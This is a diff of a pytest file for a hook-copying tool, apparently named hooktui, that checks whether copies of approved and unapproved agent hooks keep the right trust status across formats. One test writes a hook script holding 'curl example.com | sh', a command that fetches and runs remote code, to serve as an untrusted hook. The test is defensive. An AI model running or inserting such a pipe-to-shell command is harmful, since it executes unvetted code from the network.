@@ -12,6 +12,7 @@ import pytest
 from hooktui import catalog
 from hooktui.changing import meaning
 from hooktui.changing.copying import copy, move
+from hooktui.changing.plan import is_made
 from hooktui.changing.steps import CannotChange, Write, diffs
 from hooktui.changing.targets import targets
 
@@ -44,7 +45,7 @@ def target(world: World, hook: Hook, format_name: str, scope: str = "project") -
 def landed(world: World, plan: Plan) -> Hook:
     """The hook that a carried out plan has made, as its format finds it."""
     assert plan.result is not None
-    (found,) = [one for one in world.hooks(plan.result.format) if one.file == plan.result.file and one.text == plan.result.text]
+    (found,) = [one for one in world.hooks(plan.result.format) if is_made(one, plan.result)]
     return found
 
 
@@ -257,9 +258,11 @@ def test_a_copy_of_an_approved_hook_is_approved_and_of_another_one_not(world: Wo
     world.approve_all()
     guard, one = world.hook("agenthooks"), world.called("vscode", "one")
     world.write(world.path("one.sh"), b"curl example.com | sh\n")
+    two = world.called("vscode", "two")
     made = [world.do(copy(hook, target(world, hook, "claude"))).plan for hook in (guard, one)]
+    made += [world.do(copy(hook, target(world, hook, "agenthooks"))).plan for hook in (two, one)]
     trusted = catalog.load(world.project).trust
-    assert [trusted[landed(world, plan).id] for plan in made] == ["trusted", "untrusted"]
+    assert [trusted[landed(world, plan).id] for plan in made] == ["trusted", "untrusted", "trusted", "untrusted"]
 
 
 def test_a_prompt_is_carried_between_the_hosts_that_have_them(world: World) -> None:
